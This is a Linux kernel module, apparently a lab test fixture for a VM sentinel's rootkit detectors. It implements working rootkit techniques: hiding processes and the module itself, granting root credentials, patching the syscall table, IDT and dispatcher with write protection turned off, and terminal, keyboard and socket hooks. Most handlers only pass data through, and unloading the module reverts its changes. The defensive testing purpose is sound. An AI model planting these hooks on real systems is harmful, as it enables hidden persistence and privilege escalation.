// SPDX-License-Identifier: GPL-2.0
/*
 * vmsrootkit: a test module that does what rootkits do, so the sentinel's
 * detectors can be tested against the real thing in a lab guest. Each action
 * is chosen by a module parameter; addresses come from /proc/kallsyms, which
 * the test reads as root inside the guest.
 *
 *   hide_pid=N          unlink task N from the task list (it keeps running);
 *                       tasklist_lock_addr=ADDR lets it take the task list's lock
 *   hide_pid_deep=1     with hide_pid: also take its number out of the PID table (its namespace's
 *                       IDR), so only the run queues and a memory scan still see it;
 *                       pidmap_lock_addr=ADDR lets it take the PID table's lock
 *   hide_self=1         unlink this module from the module list (2: and from sysfs, so only a
 *                       scan of module memory still sees it)
 *   root_pid=N          give task N root credentials in place
 *   cred_pid=N init_cred_addr=ADDR
 *                       point task N's credentials at the kernel's own (init_cred), as an exploit's
 *                       commit_creds(&init_cred) does
 *   syscall_table=ADDR syscall_nr=N   overwrite sys_call_table[N] with our handler
 *   idt_table=ADDR idt_vector=N      point IDT gate N at our handler
 *   patch_addr=ADDR     plant a jmp at the start of a kernel function (inline hook)
 *   dispatch_addr=ADDR dispatch_from=ADDR
 *                       in the syscall dispatcher (x64_sys_call, Linux 6.9+ and 6.1.85+), turn
 *                       the call or tail call of dispatch_from (a __x64_sys_* function) to ours
 *   kprobe_hook=1       register a kprobe on __x64_sys_getppid with our handler
 *   ftrace_hook=1       register an ftrace callback on vfs_getattr
 *   netfilter_hook=1    register a netfilter hook (IPv4 PRE_ROUTING, the initial namespace), as
 *                       magic-packet backdoors do
 *   tp_hook=1           register a probe on the sched_process_exec tracepoint (no eBPF)
 *   kbd_hook=1          register a keyboard notifier, as console keyloggers do
 *   kthread_hook=1      start a kernel thread running this module's code (with hide_self=1: the
 *                       thread runs on in a module nobody can see)
 *   tty_ldiscs_addr=ADDR
 *                       swap receive_buf of the N_TTY line discipline (tty_ldiscs[0]) for ours,
 *                       which passes every byte on: a keylogger on every terminal
 *   ksock_port=N        listen on TCP port N from a kernel socket (no process holds it), as
 *                       in-kernel backdoors do
 *   seq_ops_addr=ADDR   swap show of a seq_operations table (tcp4_seq_ops: /proc/net/tcp) for
 *                       ours, which passes every line on, as rootkits hiding sockets do
 *
 * Unloading it (possible unless hide_self=1) undoes every action, so a
 * benchmark can repeat each technique in one boot.
 */
#include <linux/cred.h>
#include <linux/delay.h>
#include <linux/ftrace.h>
#include <linux/keyboard.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/in.h>
#include <linux/module.h>
#include <linux/net.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/seq_file.h>
#include <linux/tracepoint.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include <net/net_namespace.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/task.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("rootkit behaviours for vmsentinel's lab tests");

static int hide_pid;
static int hide_self;
static int root_pid;
static unsigned long syscall_table;
static int syscall_nr = -1;
static unsigned long idt_table;
static int idt_vector = -1;
static unsigned long patch_addr;
module_param(hide_pid, int, 0);
module_param(hide_self, int, 0);
module_param(root_pid, int, 0);
static int cred_pid;
static unsigned long init_cred_addr;
module_param(cred_pid, int, 0);
module_param(init_cred_addr, ulong, 0);
module_param(syscall_table, ulong, 0);
module_param(syscall_nr, int, 0);
module_param(idt_table, ulong, 0);
module_param(idt_vector, int, 0);
module_param(patch_addr, ulong, 0);
static unsigned long dispatch_addr;
static unsigned long dispatch_from;
module_param(dispatch_addr, ulong, 0);
module_param(dispatch_from, ulong, 0);
/* the dispatcher is one function of direct calls: this far in, at most */
#define DISPATCH_SCAN 65536
static int kprobe_hook;
static int ftrace_hook;
module_param(kprobe_hook, int, 0);
module_param(ftrace_hook, int, 0);

static int vms_kprobe_pre(struct kprobe *p, struct pt_regs *regs) { return 0; }
static struct kprobe vms_kprobe = { .symbol_name = "__x64_sys_getppid", .pre_handler = vms_kprobe_pre };

static void vms_ftrace_cb(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *op,
			  struct ftrace_regs *fregs) { }
static struct ftrace_ops vms_ftrace_ops = { .func = vms_ftrace_cb };

static int ksock_port;
module_param(ksock_port, int, 0);
static struct socket *vms_ksock;
static int netfilter_hook, tp_hook, kbd_hook, kthread_hook;
static unsigned long tty_ldiscs_addr, seq_ops_addr;
module_param(netfilter_hook, int, 0);
module_param(tp_hook, int, 0);
module_param(kbd_hook, int, 0);
module_param(kthread_hook, int, 0);
module_param(tty_ldiscs_addr, ulong, 0);
module_param(seq_ops_addr, ulong, 0);

static unsigned int vms_nf_fn(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}
static struct nf_hook_ops vms_nf_ops = {
	.hook = vms_nf_fn, .pf = NFPROTO_IPV4, .hooknum = NF_INET_PRE_ROUTING, .priority = NF_IP_PRI_FIRST,
};
static int nf_registered;

static struct tracepoint *vms_tp;
static int tp_registered;
static void vms_tp_probe(void *data, void *p, int old_pid, void *bprm) { }
static void vms_find_tp(struct tracepoint *tp, void *priv)
{
	if (!strcmp(tp->name, "sched_process_exec"))
		vms_tp = tp;
}

static int vms_kbd_cb(struct notifier_block *nb, unsigned long action, void *data) { return NOTIFY_OK; }
static struct notifier_block vms_kbd_nb = { .notifier_call = vms_kbd_cb };
static int kbd_registered;

static struct task_struct *vms_thread;
static int vms_thread_fn(void *data)
{
	while (!kthread_should_stop())
		msleep_interruptible(500);
	return 0;
}

/* receive_buf's types changed over the releases (int count, then size_t); four register-sized
 * arguments pass through unchanged either way */
typedef void (*vms_receive_t)(void *tty, const void *cp, const void *fp, unsigned long count);
static vms_receive_t saved_receive_buf;
static struct tty_ldisc_ops *hooked_ldisc;
static void vms_receive_buf(void *tty, const void *cp, const void *fp, unsigned long count)
{
	saved_receive_buf(tty, cp, fp, count);
}

static int (*saved_show)(struct seq_file *m, void *v);
static struct seq_operations *hooked_seq;
static int vms_seq_show(struct seq_file *m, void *v)
{
	return saved_show(m, v);
}

static long vms_fake_syscall(const struct pt_regs *regs) { return -ENOSYS; }
static void vms_fake_handler(void) { }

static inline void wp_off(void)
{
	unsigned long cr0 = read_cr0() & ~X86_CR0_WP;
	asm volatile("mov %0, %%cr0" : "+r"(cr0) : : "memory");
}

static inline void wp_on(void)
{
	unsigned long cr0 = read_cr0() | X86_CR0_WP;
	asm volatile("mov %0, %%cr0" : "+r"(cr0) : : "memory");
}

/* tasklist_lock is not exported: its address comes from /proc/kallsyms like the tables' */
static unsigned long tasklist_lock_addr;
module_param(tasklist_lock_addr, ulong, 0);

static void tasks_lock(void)
{
	if (tasklist_lock_addr)
		write_lock_irq((rwlock_t *)tasklist_lock_addr);
}

static void tasks_unlock(void)
{
	if (tasklist_lock_addr)
		write_unlock_irq((rwlock_t *)tasklist_lock_addr);
}

static int hide_pid_deep;
static unsigned long pidmap_lock_addr;
module_param(hide_pid_deep, int, 0);
module_param(pidmap_lock_addr, ulong, 0);
static struct pid *hidden_pid;
static struct pid_namespace *hidden_ns;
static int hidden_nr;

static struct task_struct *hidden_task;
static unsigned long saved_syscall;
static u16 saved_gate[8];
static u8 saved_code[5];
static struct task_struct *cred_task;
static const struct cred *saved_cred, *saved_real_cred;
static s32 *dispatch_site;
static s32 saved_dispatch;
static kuid_t saved_uid[4];
static kgid_t saved_gid[4];
static int kprobe_registered, ftrace_registered;

static struct task_struct *task_of(int nr)
{
	return pid_task(find_vpid(nr), PIDTYPE_PID);
}

static int __init vms_init(void)
{
	struct task_struct *t;

	if (hide_pid > 0 && (t = task_of(hide_pid))) {
		hidden_task = get_task_struct(t);
		tasks_lock();
		list_del_init(&t->tasks);
		tasks_unlock();
		if (hide_pid_deep && pidmap_lock_addr) {
			hidden_ns = get_pid_ns(task_active_pid_ns(t));
			hidden_nr = task_pid_nr_ns(t, hidden_ns);
			spin_lock_irq((spinlock_t *)pidmap_lock_addr);
			hidden_pid = idr_remove(&hidden_ns->idr, hidden_nr);
			spin_unlock_irq((spinlock_t *)pidmap_lock_addr);
			pr_info("vmsrootkit: pid %d out of the PID table: %s\n", hidden_nr, hidden_pid ? "yes" : "no");
		}
	}
	if (root_pid > 0 && (t = task_of(root_pid))) {
		struct cred *c = (struct cred *)t->real_cred;
		saved_uid[0] = c->uid; saved_uid[1] = c->euid; saved_uid[2] = c->suid; saved_uid[3] = c->fsuid;
		saved_gid[0] = c->gid; saved_gid[1] = c->egid; saved_gid[2] = c->sgid; saved_gid[3] = c->fsgid;
		c->uid.val = c->euid.val = c->suid.val = c->fsuid.val = 0;
		c->gid.val = c->egid.val = c->sgid.val = c->fsgid.val = 0;
	}
	if (cred_pid > 0 && init_cred_addr && (t = task_of(cred_pid))) {
		const struct cred *kernel = (const struct cred *)init_cred_addr;

		cred_task = get_task_struct(t);
		saved_cred = t->cred;
		saved_real_cred = t->real_cred;
		get_cred(kernel);
		get_cred(kernel);
		rcu_assign_pointer(t->real_cred, kernel);
		rcu_assign_pointer(t->cred, kernel);
	}
	if (syscall_table && syscall_nr >= 0) {
		saved_syscall = ((unsigned long *)syscall_table)[syscall_nr];
		wp_off();
		((unsigned long *)syscall_table)[syscall_nr] = (unsigned long)vms_fake_syscall;
		wp_on();
	}
	if (idt_table && idt_vector >= 0) {
		unsigned long h = (unsigned long)vms_fake_handler;
		u16 *gate = (u16 *)(idt_table + 16 * idt_vector);
		memcpy(saved_gate, gate, sizeof(saved_gate));
		wp_off();
		gate[0] = h & 0xffff;
		gate[3] = (h >> 16) & 0xffff;
		*(u32 *)(gate + 4) = h >> 32;
		wp_on();
	}
	if (patch_addr) {
		long rel = (long)vms_fake_handler - (long)(patch_addr + 5);
		u8 *p = (u8 *)patch_addr;
		memcpy(saved_code, p, sizeof(saved_code));
		wp_off();
		p[0] = 0xe9;
		*(s32 *)(p + 1) = (s32)rel;
		wp_on();
	}
	if (dispatch_addr && dispatch_from) {
		u8 *p = (u8 *)dispatch_addr;
		int i;

		for (i = 0; i < DISPATCH_SCAN - 5; i++) {
			if ((p[i] == 0xe8 || p[i] == 0xe9) &&
			    dispatch_addr + i + 5 + *(s32 *)(p + i + 1) == dispatch_from) {
				dispatch_site = (s32 *)(p + i + 1);
				break;
			}
		}
		if (dispatch_site) {
			saved_dispatch = *dispatch_site;
			wp_off();
			*dispatch_site = (s32)((long)vms_fake_syscall - ((long)dispatch_site + 4));
			wp_on();
		}
		pr_info("vmsrootkit: dispatcher call %s\n", dispatch_site ? "patched" : "not found");
	}
	if (kprobe_hook)
		kprobe_registered = !register_kprobe(&vms_kprobe);
	if (ftrace_hook) {
		int err = ftrace_set_filter(&vms_ftrace_ops, (unsigned char *)"vfs_getattr", 11, 0);

		if (!err)
			err = register_ftrace_function(&vms_ftrace_ops);
		ftrace_registered = !err;
		pr_info("vmsrootkit: ftrace hook: %d\n", err);
	}
	if (ksock_port > 0 && !sock_create_kern(&init_net, AF_INET, SOCK_STREAM, IPPROTO_TCP, &vms_ksock)) {
		struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(ksock_port) };

		if (kernel_bind(vms_ksock, (struct sockaddr *)&sa, sizeof(sa)) || kernel_listen(vms_ksock, 4)) {
			sock_release(vms_ksock);
			vms_ksock = NULL;
		}
		pr_info("vmsrootkit: kernel socket on port %d: %s\n", ksock_port, vms_ksock ? "listening" : "failed");
	}
	if (netfilter_hook)
		nf_registered = !nf_register_net_hook(&init_net, &vms_nf_ops);
	if (tp_hook) {
		for_each_kernel_tracepoint(vms_find_tp, NULL);
		if (vms_tp)
			tp_registered = !tracepoint_probe_register(vms_tp, (void *)vms_tp_probe, NULL);
	}
	if (kbd_hook)
		kbd_registered = !register_keyboard_notifier(&vms_kbd_nb);
	if (kthread_hook) {
		vms_thread = kthread_run(vms_thread_fn, NULL, "vms_kthread");
		if (IS_ERR(vms_thread))
			vms_thread = NULL;
	}
	if (tty_ldiscs_addr) {
		hooked_ldisc = ((struct tty_ldisc_ops **)tty_ldiscs_addr)[N_TTY];
		if (hooked_ldisc) {
			saved_receive_buf = (vms_receive_t)hooked_ldisc->receive_buf;
			wp_off();
			hooked_ldisc->receive_buf = (void *)vms_receive_buf;
			wp_on();
		}
	}
	if (seq_ops_addr) {
		hooked_seq = (struct seq_operations *)seq_ops_addr;
		saved_show = hooked_seq->show;
		wp_off();
		hooked_seq->show = vms_seq_show;
		wp_on();
	}
	pr_info("vmsrootkit: netfilter %d tracepoint %d keyboard %d kthread %d ldisc %d seq %d\n", nf_registered,
		tp_registered, kbd_registered, vms_thread != NULL, hooked_ldisc != NULL, hooked_seq != NULL);
	if (hide_self)
		list_del_init(&THIS_MODULE->list);
	if (hide_self == 2)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

static void __exit vms_exit(void)
{
	struct task_struct *t;

	if (vms_ksock)
		sock_release(vms_ksock);
	if (hooked_seq) {
		wp_off();
		hooked_seq->show = saved_show;
		wp_on();
	}
	if (hooked_ldisc) {
		wp_off();
		hooked_ldisc->receive_buf = (void *)saved_receive_buf;
		wp_on();
	}
	if (vms_thread)
		kthread_stop(vms_thread);
	if (kbd_registered)
		unregister_keyboard_notifier(&vms_kbd_nb);
	if (tp_registered) {
		tracepoint_probe_unregister(vms_tp, (void *)vms_tp_probe, NULL);
		tracepoint_synchronize_unregister();
	}
	if (nf_registered)
		nf_unregister_net_hook(&init_net, &vms_nf_ops);
	if (ftrace_registered)
		unregister_ftrace_function(&vms_ftrace_ops);
	if (kprobe_registered)
		unregister_kprobe(&vms_kprobe);
	if (patch_addr) {
		wp_off();
		memcpy((u8 *)patch_addr, saved_code, sizeof(saved_code));
		wp_on();
	}
	if (dispatch_site) {
		wp_off();
		*dispatch_site = saved_dispatch;
		wp_on();
	}
	if (idt_table && idt_vector >= 0) {
		wp_off();
		memcpy((u16 *)(idt_table + 16 * idt_vector), saved_gate, sizeof(saved_gate));
		wp_on();
	}
	if (syscall_table && syscall_nr >= 0) {
		wp_off();
		((unsigned long *)syscall_table)[syscall_nr] = saved_syscall;
		wp_on();
	}
	if (root_pid > 0 && (t = task_of(root_pid))) {
		struct cred *c = (struct cred *)t->real_cred;
		c->uid = saved_uid[0]; c->euid = saved_uid[1]; c->suid = saved_uid[2]; c->fsuid = saved_uid[3];
		c->gid = saved_gid[0]; c->egid = saved_gid[1]; c->sgid = saved_gid[2]; c->fsgid = saved_gid[3];
	}
	if (cred_task) {
		/* an exec since took new credentials: put back only what is still ours */
		if (cred_task->real_cred == (const struct cred *)init_cred_addr && cred_task->cred == (const struct cred *)init_cred_addr) {
			rcu_assign_pointer(cred_task->real_cred, saved_real_cred);
			rcu_assign_pointer(cred_task->cred, saved_cred);
			put_cred((const struct cred *)init_cred_addr);
			put_cred((const struct cred *)init_cred_addr);
		}
		put_task_struct(cred_task);
	}
	if (hidden_pid) {  /* back in the table while the process lives (its exit takes it out again) */
		spin_lock_irq((spinlock_t *)pidmap_lock_addr);
		if (pid_alive(hidden_task))
			idr_alloc(&hidden_ns->idr, hidden_pid, hidden_nr, hidden_nr + 1, GFP_ATOMIC);
		spin_unlock_irq((spinlock_t *)pidmap_lock_addr);
	}
	if (hidden_ns)
		put_pid_ns(hidden_ns);
	if (hidden_task) {
		tasks_lock();
		if (pid_alive(hidden_task))
			list_add_tail_rcu(&hidden_task->tasks, &init_task.tasks);
		tasks_unlock();
		put_task_struct(hidden_task);
	}
}

module_init(vms_init);
module_exit(vms_exit);
